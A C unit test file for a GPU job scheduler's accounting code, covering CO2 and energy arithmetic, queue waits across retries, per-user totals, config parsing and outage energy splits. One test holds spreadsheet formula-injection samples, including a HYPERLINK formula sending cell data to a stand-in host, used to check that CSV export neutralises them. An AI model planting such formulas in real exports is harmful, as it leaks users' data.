/* test_acct.c -- the report's arithmetic (acct.c): CO2 from kWh, PUE and
 * intensity (a job's own as it ran, once stamped), GPU-hours, queue wait
 * across OOM retries, slowdown, totals per user, the config keys that set
 * intensity and PUE; and the split of an outage's energy (acct_gap.c). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "acct.h"
#include "acct_gap.h"
#include "config.h"

static void test_co2(void **state) {
    (void)state;
    acct_params p;
    acct_params_default(&p);
    assert_float_equal(p.grid_g_per_kwh, 475, 0);
    assert_float_equal(p.pue, 1.0, 0);
    assert_float_equal(acct_kwh(3.6e6), 1, 1e-12);
    p = (acct_params){.grid_g_per_kwh = 400, .pue = 1.5};
    assert_float_equal(acct_co2_g(2, &p), 1200, 1e-9);
    p.grid_g_per_kwh = 0;
    assert_float_equal(acct_co2_g(2, &p), 0, 0);
}

static void test_gpu_hours(void **state) {
    (void)state;
    acct_span a[] = {{0, 1800, 2}, {2000, 5600, 1}, {6000, -1, 4}};
    /* 2 x 0.5 h + 1 x 1 h + 4 x (7800 - 6000) s running */
    assert_float_equal(acct_gpu_hours(a, 3, 7800), 1 + 1 + 2, 1e-9);
    assert_float_equal(acct_gpu_hours(a, 0, 7800), 0, 0);
}

/* Submitted at 100, OOM after its first attempt, requeued, done. */
static void test_wait_with_retries(void **state) {
    (void)state;
    acct_span a[] = {{130, 200, 1}, {260, 500, 1}};
    acct_row r = {.state = "done", .submit_s = 100, .end_s = 500, .gpus = 1};
    acct_row_measure(&r, a, 2, 9999);
    assert_int_equal(r.attempts, 2);
    assert_float_equal(r.start_s, 130, 0);
    assert_float_equal(r.queue_wait_s, 30 + 60, 1e-9);
    assert_float_equal(r.run_s, 70 + 240, 1e-9);
    assert_float_equal(r.slowdown, 400.0 / 240, 1e-9);
    /* the same job queued again after its OOM, now at 400 */
    acct_row q = {.state = "queued", .submit_s = 100, .end_s = -1, .gpus = 1};
    acct_row_measure(&q, a, 1, 400);
    assert_float_equal(q.queue_wait_s, 30 + 200, 1e-9);
    assert_float_equal(q.slowdown, -1, 0);
    /* running its second attempt: the wait stops at its start */
    acct_span live[] = {{130, 200, 1}, {260, -1, 1}};
    acct_row run = {.state = "running", .submit_s = 100, .end_s = -1};
    acct_row_measure(&run, live, 2, 400);
    assert_float_equal(run.queue_wait_s, 90, 1e-9);
    assert_float_equal(run.run_s, 70 + 140, 1e-9);
    /* never started, cancelled at 150 */
    acct_row c = {.state = "cancelled", .submit_s = 100, .end_s = 150};
    acct_row_measure(&c, NULL, 0, 400);
    assert_float_equal(c.queue_wait_s, 50, 1e-9);
    assert_float_equal(c.start_s, -1, 0);
}

/* acct_report: per-user and overall totals are the sums of the rows. */
static void test_report_totals(void **state) {
    (void)state;
    json_t *jobs = json_loads(
        "[{\"id\":1,\"user\":\"ann\",\"name\":\"a\",\"gpus\":2,\"state\":\"done\","
        "\"submitted\":0,\"finished\":100,\"energy_j\":3.6e6,\"attempt_list\":"
        "[{\"gpus\":\"0,1\",\"started\":10,\"ended\":100}]},"
        "{\"id\":2,\"user\":\"bob\",\"name\":\"\",\"gpus\":1,\"state\":\"failed\","
        "\"submitted\":5,\"finished\":50,\"energy_j\":7.2e6,\"attempt_list\":"
        "[{\"gpus\":\"2\",\"started\":5,\"ended\":50}]},"
        "{\"id\":3,\"user\":\"ann\",\"name\":\"c\",\"gpus\":1,\"state\":\"queued\","
        "\"submitted\":20,\"finished\":null,\"energy_j\":0,\"attempt_list\":[]}]",
        0, NULL);
    acct_params p = {.grid_g_per_kwh = 100, .pue = 2};
    json_t *ans = acct_report(jobs, &p, 200);
    assert_non_null(ans);
    json_t *total = json_object_get(ans, "total");
    assert_int_equal(json_integer_value(json_object_get(total, "jobs")), 3);
    assert_float_equal(json_number_value(json_object_get(total, "co2_g")),
                       3 * 2 * 100, 1e-9);
    assert_float_equal(json_number_value(json_object_get(total, "gpu_hours")),
                       (2 * 90 + 45) / 3600.0, 1e-12);
    assert_float_equal(json_number_value(json_object_get(total, "queue_wait_s")),
                       10 + 0 + 180, 1e-9);
    json_t *ann = json_array_get(json_object_get(ans, "users"), 0);
    assert_string_equal(json_string_value(json_object_get(ann, "user")), "ann");
    assert_int_equal(json_integer_value(json_object_get(ann, "jobs")), 2);
    assert_float_equal(json_number_value(json_object_get(ann, "energy_consumed")),
                       1, 1e-12);
    json_t *row = json_array_get(json_object_get(ans, "jobs"), 0);
    assert_float_equal(json_number_value(json_object_get(row, "emissions")),
                       0.2, 1e-12);
    assert_null(json_object_get(row, "cmd"));
    assert_true(json_is_null(json_object_get(
        json_array_get(json_object_get(ans, "jobs"), 2), "start_s")));
    json_decref(ans);
    json_decref(jobs);
}

/* The CSV row of a queued job of that name (malloc'd). */
static char *csv_row_of(const char *name) {
    acct_params p;
    acct_params_default(&p);
    acct_row r = {.job_id = 7, .user = "u", .name = name, .state = "queued",
                  .submit_s = 0, .end_s = -1};
    acct_row_measure(&r, NULL, 0, 10);
    json_t *o = acct_row_json(&r, &p, 10);
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    acct_csv_row(f, o, NULL);
    fclose(f);
    json_decref(o);
    return buf;
}

/* A CSV cell with a comma or quote is quoted; an unknown cell is empty. */
static void test_csv_quoting(void **state) {
    (void)state;
    char *row = csv_row_of("a, \"b\"");
    assert_non_null(strstr(row, ",\"a, \"\"b\"\"\","));
    assert_non_null(strstr(row, ",queued,0,,,0,"));
    free(row);
}

/* A name a spreadsheet would run as a formula (any user names a job)
 * is written as text: a quote mark first, inside the CSV's quotes where
 * it has them. */
static void test_csv_formula_is_text(void **state) {
    (void)state;
    const char *names[] = {"=HYPERLINK(\"http://x/\"&A2)", "-2+3", "@SUM(A1)"};
    const char *want[] = {",\"'=HYPERLINK(\"\"http://x/\"\"&A2)\",", ",'-2+3,",
                          ",'@SUM(A1),"};
    for (int i = 0; i < 3; i++) {
        char *row = csv_row_of(names[i]);
        if (!strstr(row, want[i])) fail_msg("%s lacks %s", row, want[i]);
        free(row);
    }
}

static char *write_config(const char *text) {
    static char path[] = "/tmp/aegis-acct-XXXXXX";
    strcpy(path, "/tmp/aegis-acct-XXXXXX");
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    return path;
}

/* A stamped row keeps the CO2 it ran at, whatever the report's figures:
 * its pue and intensity are the ones it ran at, and the totals add its
 * CO2 to the unstamped rows' at the report's figures. */
static void test_stamped_co2(void **state) {
    (void)state;
    json_t *jobs = json_loads(
        "[{\"id\":1,\"user\":\"ann\",\"name\":\"a\",\"gpus\":1,\"state\":\"done\","
        "\"submitted\":0,\"finished\":100,\"energy_j\":3.6e6,\"co2_g\":480,"
        "\"pue_j\":4.32e6,\"attempt_list\":[{\"gpus\":\"0\",\"started\":0,"
        "\"ended\":100}]},"
        "{\"id\":2,\"user\":\"ann\",\"name\":\"b\",\"gpus\":1,\"state\":\"done\","
        "\"submitted\":0,\"finished\":100,\"energy_j\":3.6e6,\"co2_g\":null,"
        "\"pue_j\":null,\"attempt_list\":[{\"gpus\":\"0\",\"started\":0,"
        "\"ended\":100}]}]",
        0, NULL);
    assert_non_null(jobs);
    acct_params p = {.grid_g_per_kwh = 100, .pue = 1};
    json_t *ans = acct_report(jobs, &p, 200);
    assert_non_null(ans);
    json_t *a = json_array_get(json_object_get(ans, "jobs"), 0);
    json_t *b = json_array_get(json_object_get(ans, "jobs"), 1);
    /* 1 kWh at PUE 1.2 and 400 g/kWh, stamped as it ran */
    assert_float_equal(json_number_value(json_object_get(a, "co2_g")), 480, 1e-9);
    assert_float_equal(json_number_value(json_object_get(a, "pue")), 1.2, 1e-12);
    assert_float_equal(json_number_value(
        json_object_get(a, "grid_intensity_g_per_kwh")), 400, 1e-9);
    /* an older row: at the report's figures */
    assert_float_equal(json_number_value(json_object_get(b, "co2_g")), 100, 1e-9);
    assert_float_equal(json_number_value(json_object_get(b, "pue")), 1, 1e-12);
    json_t *total = json_object_get(ans, "total");
    assert_float_equal(json_number_value(json_object_get(total, "co2_g")),
                       580, 1e-9);
    json_decref(ans);
    json_decref(jobs);
}

/* The invariants of an outage's split: charges >= 0, adding up to no
 * more than the rise. */
static double gap_check(const acct_gap_gpu *g, acct_gap_job *j, int n) {
    double sum = acct_gap_split(g, j, n), all = 0;
    for (int i = 0; i < n; i++) {
        assert_true(j[i].charge >= 0);
        all += j[i].charge;
    }
    assert_float_equal(all, sum, 1e-9);
    assert_true(sum <= g->joules + 1e-9);
    return sum;
}

/* A job running through the outage gets the whole rise; two by their
 * saved shares. */
static void test_gap_covered(void **state) {
    (void)state;
    acct_gap_gpu g = {.t0 = 100, .t1 = 120, .joules = 5000, .power_w = 200};
    acct_gap_job one[] = {{.start = 50, .end = -1, .share = 1}};
    assert_float_equal(gap_check(&g, one, 1), 5000, 1e-9);
    acct_gap_job two[] = {{.start = 50, .end = -1, .share = 0.25},
                          {.start = 60, .end = -1, .share = 0.75}};
    gap_check(&g, two, 2);
    assert_float_equal(two[0].charge, 1250, 1e-9);
    assert_float_equal(two[1].charge, 3750, 1e-9);
    /* one ends mid-way, the other runs on: the GPU was never without a
     * job, so all 5000 J are theirs, by share x overlap */
    two[0].end = 110;
    assert_float_equal(gap_check(&g, two, 2), 5000, 1e-9);
    assert_float_equal(two[0].charge, 5000 * 2.5 / (2.5 + 15), 1e-9);
}

/* A job that ends during the outage, alone on its GPU, gets its power at
 * the save x the time it ran; the GPU's idle draw after is nobody's. */
static void test_gap_idle_after(void **state) {
    (void)state;
    /* 10 s at 227.5 W, then 10 s idle at 55 W */
    acct_gap_gpu g = {.t0 = 100, .t1 = 120, .joules = 2275 + 550,
                      .power_w = 227.5};
    acct_gap_job j[] = {{.start = 70, .end = 110, .share = 1}};
    assert_float_equal(gap_check(&g, j, 1), 2275, 1e-9);
    /* no more than the counter rose, whatever the power at the save */
    g.joules = 1000;
    assert_float_equal(gap_check(&g, j, 1), 1000, 1e-9);
    /* power unknown: the outage's mean power */
    g = (acct_gap_gpu){.t0 = 100, .t1 = 120, .joules = 2000, .power_w = -1};
    assert_float_equal(gap_check(&g, j, 1), 1000, 1e-9);
    /* a job that ended before t0, and a rise of 0: nothing */
    acct_gap_job before[] = {{.start = 70, .end = 95, .share = 1}};
    assert_float_equal(gap_check(&g, before, 1), 0, 0);
    g.joules = 0;
    assert_float_equal(gap_check(&g, j, 1), 0, 0);
}

/* A job started after the save has no share: an even one. */
static void test_gap_unknown_share(void **state) {
    (void)state;
    acct_gap_gpu g = {.t0 = 100, .t1 = 110, .joules = 3000, .power_w = 300};
    acct_gap_job j[] = {{.start = 95, .end = -1, .share = 1},
                        {.start = 100, .end = -1, .share = -1}};
    gap_check(&g, j, 2);
    /* shares 1 and 0.5, renormalized: 2/3 and 1/3 */
    assert_float_equal(j[0].charge, 2000, 1e-9);
    assert_float_equal(j[1].charge, 1000, 1e-9);
}

static void test_config_keys(void **state) {
    (void)state;
    core_config cfg;
    acct_params p;
    char err[512];
    char *path = write_config("policy: aegis\ngrid_intensity_g_per_kwh: 56\n"
                              "pue: 1.25\n");
    assert_int_equal(config_load_acct(path, false, &cfg, &p, err, sizeof(err)), 0);
    assert_float_equal(p.grid_g_per_kwh, 56, 0);
    assert_float_equal(p.pue, 1.25, 0);
    assert_string_equal(cfg.policy, "aegis");
    /* config_load still accepts the file */
    assert_int_equal(config_load(path, false, &cfg, err, sizeof(err)), 0);
    unlink(path);
    path = write_config("observe_s: 5\npue: 0.9\n");
    assert_int_equal(config_load_acct(path, false, &cfg, &p, err, sizeof(err)), -1);
    assert_non_null(strstr(err, ":2: pue: '0.9'"));
    unlink(path);
    path = write_config("grid_intensity_g_per_kwh: lots\n");
    assert_int_equal(config_load_acct(path, false, &cfg, &p, err, sizeof(err)), -1);
    assert_non_null(strstr(err, ":1: grid_intensity_g_per_kwh"));
    unlink(path);
    path = write_config("pue: 1.1\nno_such_key: 1\n");
    assert_int_equal(config_load_acct(path, false, &cfg, &p, err, sizeof(err)), -1);
    assert_non_null(strstr(err, ":2:"));
    unlink(path);
    assert_int_equal(config_load_acct("/nonexistent/x.yaml", true, &cfg, &p, err,
                                      sizeof(err)), 0);
    assert_float_equal(p.grid_g_per_kwh, ACCT_GRID_DEFAULT, 0);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_co2),
        cmocka_unit_test(test_gpu_hours),
        cmocka_unit_test(test_wait_with_retries),
        cmocka_unit_test(test_report_totals),
        cmocka_unit_test(test_csv_quoting),
        cmocka_unit_test(test_csv_formula_is_text),
        cmocka_unit_test(test_config_keys),
        cmocka_unit_test(test_stamped_co2),
        cmocka_unit_test(test_gap_covered),
        cmocka_unit_test(test_gap_idle_after),
        cmocka_unit_test(test_gap_unknown_share),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
